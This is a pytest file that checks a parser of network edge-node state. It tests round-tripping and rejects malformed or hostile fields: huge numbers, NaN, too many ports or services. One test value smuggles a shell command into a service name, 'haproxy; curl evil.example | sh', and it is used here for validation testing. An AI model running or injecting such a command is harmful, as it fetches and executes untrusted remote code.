"""What an edge tells of itself comes over the wire as it was."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

import some_edges
from greygate.plan import edge_state


def test_what_is_told_is_read() -> None:
    state = some_edges.state(down=("haproxy",), closed=(443,))
    assert edge_state.read(json.loads(json.dumps(edge_state.told(state)))) == state


@pytest.mark.parametrize(
    ("change", "words"),
    [
        ({"serial": None}, "serial is no count"),
        ({"services": 1}, "no state: 'int' object is not iterable"),
        ({"services": [{}]}, "no state: name is missing"),
        ({"services": [{"name": "haproxy"}]}, "no state: since is missing"),
        ({"versions": []}, "no state: 'list' object has no attribute 'items'"),
        ({"at": "x"}, "at is no moment"),
        # What a stolen edge may send: numbers that nobody can use, too many of a kind, and words
        # that would come into a command.
        *(({"serial": it}, "serial is no count") for it in (1 << 53, -1, "7", 7.5, True, 10**400)),
        *(({"free": it}, "free is no count") for it in (10**400, -5, 1e300)),
        *(({"links": it}, "links is no count") for it in (1 << 60, "2", None)),
        *(
            ({"at": it}, "at is no moment")
            for it in (1e308, -1.0, float("nan"), "1", True, 10**400)
        ),
        ({"booted": float("inf")}, "booted is no moment"),
        ({"ports": [{"port": 65536, "listens": True}]}, "port is no count"),
        ({"ports": [{"port": 443, "listens": True}] * 17}, "too many ports"),
        (
            {"services": [{"name": "haproxy; curl evil.example | sh", "since": None}]},
            "no service of an edge",
        ),
        ({"services": [{"name": "haproxy", "since": 1e300}]}, "since is no moment"),
        ({"services": [{"name": ["haproxy"], "since": 1.0}]}, "no service of an edge"),
        ({"services": [{"name": "haproxy", "since": 1.0}] * 17}, "too many services"),
        ({"versions": {str(number): "1" for number in range(17)}}, "too many versions"),
    ],
    ids=str,
)
def test_what_is_no_state_is_told_as_such(change: dict[str, object], words: str) -> None:
    told = {**edge_state.told(some_edges.state()), **change}
    with pytest.raises(ValueError, match=f"^{words}$"):
        edge_state.read(told)
    with pytest.raises(ValueError, match="no state: serial is missing"):
        edge_state.read({})


@pytest.mark.parametrize("known", [True, False, None])
def test_what_an_earlier_version_does_not_tell_is_not_known(known: bool | None) -> None:
    state = replace(some_edges.state(), enabled=known, takes_orders=known)
    told = edge_state.told(state)
    assert edge_state.read(told) == state
    del told["enabled"], told["takes_orders"]
    assert edge_state.read(told) == replace(state, enabled=None, takes_orders=None)
